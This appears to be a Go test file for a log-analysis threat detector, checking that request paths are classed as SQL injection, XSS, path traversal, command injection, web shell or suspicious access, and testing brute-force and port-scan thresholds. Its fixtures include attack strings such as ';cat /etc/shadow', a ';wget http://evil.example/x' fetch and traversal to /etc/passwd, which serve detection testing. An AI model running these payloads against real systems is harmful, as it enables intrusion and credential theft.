package detector

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/logsentry/logsentry/internal/models"
)

func newDetector(t *testing.T) *Detector {
	t.Helper()
	return New(DefaultConfig())
}

func TestAnalyze_SingleCategory(t *testing.T) {
	d := newDetector(t)

	tests := []struct {
		name      string
		method    string
		path      string
		userAgent string
		category  string
		severity  models.Severity
	}{
		{
			name:     "sql injection",
			method:   "GET",
			path:     "/products?id=1 UNION SELECT password FROM users",
			category: models.CategorySQLInjection,
			severity: models.SeverityHigh,
		},
		{
			name:     "xss",
			method:   "GET",
			path:     "/search?q=<script>alert(1)</script>",
			category: models.CategoryXSS,
			severity: models.SeverityHigh,
		},
		{
			name:     "path traversal",
			method:   "GET",
			path:     "/../../etc/passwd",
			category: models.CategoryPathTraversal,
			severity: models.SeverityMedium,
		},
		{
			name:     "command injection",
			method:   "GET",
			path:     "/cgi-bin/test.sh?x=;cat /etc/shadow",
			category: models.CategoryCommandInjection,
			severity: models.SeverityCritical,
		},
		{
			name:     "web shell",
			method:   "GET",
			path:     "/uploads/c99.php",
			category: models.CategoryWebShell,
			severity: models.SeverityCritical,
		},
		{
			name:     "suspicious access",
			method:   "GET",
			path:     "/wp-login.php",
			category: models.CategorySuspiciousAccess,
			severity: models.SeverityMedium,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			threats := d.Analyze(tt.method, tt.path, tt.userAgent)
			require.Len(t, threats, 1)
			assert.Equal(t, tt.category, threats[0].Category)
			assert.Equal(t, tt.severity, threats[0].Severity)
			assert.NotEmpty(t, threats[0].Pattern)
			assert.NotEmpty(t, threats[0].Description)
		})
	}
}

func TestAnalyze_Benign(t *testing.T) {
	d := newDetector(t)

	threats := d.Analyze("GET", "/index.html", "")
	assert.Empty(t, threats)

	threats = d.Analyze("POST", "/api/v1/orders", "Mozilla/5.0 (X11; Linux x86_64)")
	assert.Empty(t, threats)
}

func TestAnalyze_ClassicSQLInjection(t *testing.T) {
	d := newDetector(t)

	threats := d.Analyze("GET", "/?id=1' OR '1'='1", "Mozilla/5.0")
	require.NotEmpty(t, threats)

	found := false
	for _, m := range threats {
		if m.Category == models.CategorySQLInjection {
			found = true
			assert.Equal(t, models.SeverityHigh, m.Severity)
		}
	}
	assert.True(t, found, "expected a SQL Injection match")
}

func TestAnalyze_MultipleCategoriesOrdered(t *testing.T) {
	d := newDetector(t)

	// Traversal through a sensitive path: both probes must fire, in the
	// fixed category order.
	threats := d.Analyze("GET", "/backup/../../etc/passwd", "curl/7.0")
	require.Len(t, threats, 2)
	assert.Equal(t, models.CategoryPathTraversal, threats[0].Category)
	assert.Equal(t, models.SeverityMedium, threats[0].Severity)
	assert.Equal(t, models.CategorySuspiciousAccess, threats[1].Category)

	// Web shell hit carrying a command payload.
	threats = d.Analyze("GET", "/shell.php?cmd=;wget http://evil.example/x", "")
	require.Len(t, threats, 2)
	assert.Equal(t, models.CategoryCommandInjection, threats[0].Category)
	assert.Equal(t, models.CategoryWebShell, threats[1].Category)
}

func TestAnalyze_CaseInsensitive(t *testing.T) {
	d := newDetector(t)

	threats := d.Analyze("GET", "/q?v=1 union SELECT 1", "")
	require.Len(t, threats, 1)
	assert.Equal(t, models.CategorySQLInjection, threats[0].Category)
}

func TestDetectSuspiciousPath(t *testing.T) {
	d := newDetector(t)

	tests := []struct {
		path     string
		detected bool
	}{
		{"/.env", true},
		{"/.git/config", true},
		{"/phpmyadmin/index.php", true},
		{"/xmlrpc.php", true},
		{"/.aws/credentials", true},
		{"/index.html", false},
		{"/api/v1/events", false},
	}

	for _, tt := range tests {
		t.Run(tt.path, func(t *testing.T) {
			_, ok := d.DetectSuspiciousPath(tt.path)
			assert.Equal(t, tt.detected, ok)
		})
	}
}

func TestDetectBruteForce(t *testing.T) {
	d := newDetector(t)

	now := time.Now()
	attempts := make([]FailedAttempt, 0, 5)
	for i := 0; i < 4; i++ {
		attempts = append(attempts, FailedAttempt{
			IP:        "10.0.0.5",
			Username:  "root",
			Timestamp: now.Add(-time.Duration(i) * time.Second),
		})
	}

	_, ok := d.DetectBruteForce(attempts)
	assert.False(t, ok, "below threshold must not match")

	attempts = append(attempts, FailedAttempt{IP: "10.0.0.5", Username: "admin", Timestamp: now})
	m, ok := d.DetectBruteForce(attempts)
	require.True(t, ok)
	assert.Equal(t, models.CategorySSHBruteForce, m.Category)
	assert.Equal(t, models.SeverityHigh, m.Severity)
	assert.Contains(t, m.Description, "5 failed login attempts")
}

func TestDetectPortScan(t *testing.T) {
	d := newDetector(t)
	now := time.Now()

	conns := func(n, distinctPorts int) []ConnectionAttempt {
		out := make([]ConnectionAttempt, 0, n)
		for i := 0; i < n; i++ {
			out = append(out, ConnectionAttempt{
				IP:        "192.0.2.7",
				Port:      1000 + i%distinctPorts,
				Timestamp: now,
			})
		}
		return out
	}

	_, ok := d.DetectPortScan(conns(9, 9))
	assert.False(t, ok, "too few connections")

	_, ok = d.DetectPortScan(conns(12, 3))
	assert.False(t, ok, "too few distinct ports")

	m, ok := d.DetectPortScan(conns(12, 6))
	require.True(t, ok)
	assert.Equal(t, models.CategoryPortScan, m.Category)
	assert.Equal(t, models.SeverityMedium, m.Severity)
	assert.Contains(t, m.Description, "6 different ports")
}

func TestNew_ZeroConfigFallsBackToDefaults(t *testing.T) {
	d := New(Config{})
	assert.Equal(t, 300*time.Second, d.BruteForceWindow())

	attempts := make([]FailedAttempt, 5)
	_, ok := d.DetectBruteForce(attempts)
	assert.True(t, ok)
}
